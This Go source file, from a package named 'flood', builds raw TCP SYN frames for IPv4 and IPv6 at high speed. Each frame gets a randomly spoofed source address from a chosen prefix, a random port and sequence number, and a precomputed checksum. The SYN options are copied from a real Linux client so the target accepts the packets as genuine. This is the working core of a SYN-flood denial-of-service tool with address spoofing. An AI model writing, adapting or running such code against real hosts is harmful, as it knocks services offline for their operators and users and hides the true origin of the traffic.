package flood

import (
	"encoding/binary"
	"math/rand/v2"
	"net"
	"net/netip"
)

// Frame layout. The SYN carries the options a Linux client sends without
// timestamps (MSS, SACK permitted, window scale), so the target's listen
// path treats it like a real client's.
const (
	ethLen    = 14
	ipv4Len   = 20
	ipv6Len   = 40
	tcpLen    = 32 // 20 bytes of header and 12 of options
	slotSize  = 128
	synWindow = 64240
)

var synOptions = [12]byte{
	2, 4, 0, 0, // MSS, value filled per family
	1, 1, 4, 2, // NOP, NOP, SACK permitted
	1, 3, 3, 7, // NOP, window scale 7
}

// frameGen writes SYN frames into slots that already hold its template:
// per frame only the source address, source port, sequence number (and the
// IPv4 ID) change, and the checksums are the precomputed sums of everything
// else plus those fields, so a frame costs a few random numbers and adds.
type frameGen struct {
	tmpl   []byte
	v6     bool
	ipOff  int // start of the IP header
	tcpOff int // start of the TCP header
	srcOff int // start of the IP source address

	// Source addresses are base with the host bits (hostMask) replaced by
	// random ones; v4 uses the low word of base/hostMask only.
	base     [2]uint64
	hostMask [2]uint64

	ipSum  uint32 // IPv4 header sum without ID, source and checksum
	tcpSum uint32 // pseudo-header and TCP sum without source, port, seq and checksum

	rng *rand.PCG
}

// newFrameGen builds the template for SYNs from spoof to dst and seeds the
// generator; seeds make tests reproducible, Start uses random ones.
func newFrameGen(srcMAC, dstMAC net.HardwareAddr, spoof netip.Prefix, dst netip.AddrPort, seed1, seed2 uint64) *frameGen {
	g := &frameGen{v6: dst.Addr().Is6(), ipOff: ethLen, rng: rand.NewPCG(seed1, seed2)}
	ipLen := ipv4Len
	if g.v6 {
		ipLen = ipv6Len
	}
	g.tcpOff = ethLen + ipLen
	g.tmpl = make([]byte, g.tcpOff+tcpLen)
	t := g.tmpl
	copy(t[0:6], dstMAC)
	copy(t[6:12], srcMAC)

	ip := t[ethLen:g.tcpOff]
	tcp := t[g.tcpOff:]
	mss := uint16(1460)
	if g.v6 {
		binary.BigEndian.PutUint16(t[12:], 0x86dd)
		ip[0] = 6 << 4
		binary.BigEndian.PutUint16(ip[4:], tcpLen)
		ip[6] = 6 // TCP
		ip[7] = 64
		d := dst.Addr().As16()
		copy(ip[24:40], d[:])
		g.srcOff = ethLen + 8
		mss = 1440
	} else {
		binary.BigEndian.PutUint16(t[12:], 0x0800)
		ip[0] = 4<<4 | ipv4Len/4
		binary.BigEndian.PutUint16(ip[2:], ipv4Len+tcpLen)
		binary.BigEndian.PutUint16(ip[6:], 0x4000) // DF
		ip[8] = 64
		ip[9] = 6
		d := dst.Addr().As4()
		copy(ip[16:20], d[:])
		g.srcOff = ethLen + 12
		g.ipSum = sum16(ip, 0) // ID, source and checksum are still zero
	}
	binary.BigEndian.PutUint16(tcp[2:], dst.Port())
	tcp[12] = tcpLen / 4 << 4
	tcp[13] = 0x02 // SYN
	binary.BigEndian.PutUint16(tcp[14:], synWindow)
	copy(tcp[20:], synOptions[:])
	binary.BigEndian.PutUint16(tcp[22:], mss)

	// Pseudo-header without the source: destination, protocol, length.
	var pseudo uint32
	if g.v6 {
		pseudo = sum16(ip[24:40], 0)
	} else {
		pseudo = sum16(ip[16:20], 0)
	}
	pseudo += 6 + tcpLen
	g.tcpSum = sum16(tcp, pseudo)

	sp := spoof.Masked()
	if g.v6 {
		a := sp.Addr().As16()
		g.base[0] = binary.BigEndian.Uint64(a[:8])
		g.base[1] = binary.BigEndian.Uint64(a[8:])
		g.hostMask = mask128(128 - sp.Bits())
	} else {
		a := sp.Addr().As4()
		g.base[1] = uint64(binary.BigEndian.Uint32(a[:]))
		g.hostMask[1] = 1<<(32-sp.Bits()) - 1
	}
	return g
}

// mask128 returns the low n bits set as a big-endian pair of words.
func mask128(n int) [2]uint64 {
	switch {
	case n <= 0:
		return [2]uint64{}
	case n < 64:
		return [2]uint64{0, 1<<n - 1}
	case n == 64:
		return [2]uint64{0, ^uint64(0)}
	case n < 128:
		return [2]uint64{1<<(n-64) - 1, ^uint64(0)}
	default:
		return [2]uint64{^uint64(0), ^uint64(0)}
	}
}

// frameLen is the length of every frame this generator writes.
func (g *frameGen) frameLen() int { return len(g.tmpl) }

// init copies the template into a slot; fill then only touches the fields
// that vary.
func (g *frameGen) init(slot []byte) { copy(slot, g.tmpl) }

// fill turns slot, which holds the template, into a fresh SYN with a
// random source address, source port and ISN.
func (g *frameGen) fill(slot []byte) {
	r1 := g.rng.Uint64()
	r2 := g.rng.Uint64()
	sport := uint16(r1>>48) | 1024 // stay out of the well-known range
	seq := uint32(r1)
	var s uint32
	if g.v6 {
		r3 := g.rng.Uint64()
		hi := g.base[0] | r2&g.hostMask[0]
		lo := g.base[1] | r3&g.hostMask[1]
		src := slot[g.srcOff : g.srcOff+16]
		binary.BigEndian.PutUint64(src, hi)
		binary.BigEndian.PutUint64(src[8:], lo)
		s = wordSum64(hi) + wordSum64(lo)
	} else {
		a := uint32(g.base[1] | r2&g.hostMask[1])
		id := uint16(r2 >> 48)
		binary.BigEndian.PutUint32(slot[g.srcOff:], a)
		ip := slot[g.ipOff:]
		binary.BigEndian.PutUint16(ip[4:], id)
		binary.BigEndian.PutUint16(ip[10:], ^fold(g.ipSum+uint32(id)+a>>16+a&0xffff))
		s = a>>16 + a&0xffff
	}
	tcp := slot[g.tcpOff:]
	binary.BigEndian.PutUint16(tcp[0:], sport)
	binary.BigEndian.PutUint32(tcp[4:], seq)
	s += g.tcpSum + uint32(sport) + seq>>16 + seq&0xffff
	binary.BigEndian.PutUint16(tcp[16:], ^fold(s))
}

// sum16 adds b's big-endian 16-bit words to acc without folding; frames
// here are far too short for a uint32 to overflow.
func sum16(b []byte, acc uint32) uint32 {
	for i := 0; i+1 < len(b); i += 2 {
		acc += uint32(binary.BigEndian.Uint16(b[i:]))
	}
	if len(b)%2 == 1 {
		acc += uint32(b[len(b)-1]) << 8
	}
	return acc
}

// wordSum64 is the sum of the four 16-bit words of v.
func wordSum64(v uint64) uint32 {
	return uint32(v>>48) + uint32(v>>32&0xffff) + uint32(v>>16&0xffff) + uint32(v&0xffff)
}

// fold reduces a 32-bit one's-complement sum to 16 bits.
func fold(s uint32) uint16 {
	s = s>>16 + s&0xffff
	s = s>>16 + s&0xffff
	return uint16(s)
}
